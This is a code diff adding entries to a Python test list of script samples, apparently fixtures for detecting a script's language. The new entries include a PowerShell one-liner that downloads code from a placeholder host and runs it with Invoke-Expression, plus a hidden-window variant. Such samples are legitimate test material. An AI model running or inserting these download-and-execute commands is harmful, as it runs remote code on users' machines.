@@ -171,6 +171,17 @@ SCRIPTS: list[tuple[str, str, str]] = [
     ("import fs from 'fs';\nconst x = 1;\nconsole.log(process.argv);\n", "node", ""),
     ('Dim s\nSet s = CreateObject("WScript.Shell")\ns.Run "calc"\n', "vbscript", ""),
     ("@echo off\r\nset X=1\r\nif exist %TEMP%\\a del %TEMP%\\a\r\n", "batch", ""),
+    (
+        "powershell -nop -c $c = New-Object Net.WebClient; Invoke-Expression $c.DownloadString('http://a.example')\n",
+        "batch",
+        "a.bat",
+    ),
+    ("powershell.exe -w hidden -c iex (New-Object Net.WebClient)\n", "batch", ""),
+    (
+        "function f {\n $x = Get-Date\n}\npowershell -File b.ps1\nGet-Process | Out-File $env:TEMP\\a\n",
+        "powershell",
+        "",
+    ),
     ("param([string]$a)\n$x = Get-Process | Where-Object { $_.CPU -gt 1 }\n", "powershell", ""),
     ("$c = New-Object Net.WebClient\n$d = [System.Text.Encoding]::UTF8\nInvoke-Expression $c\n", "powershell", ""),
     ("import os\n\ndef main():\n    os.getcwd()\n\nif __name__ == '__main__':\n    main()\n", "python", ""),
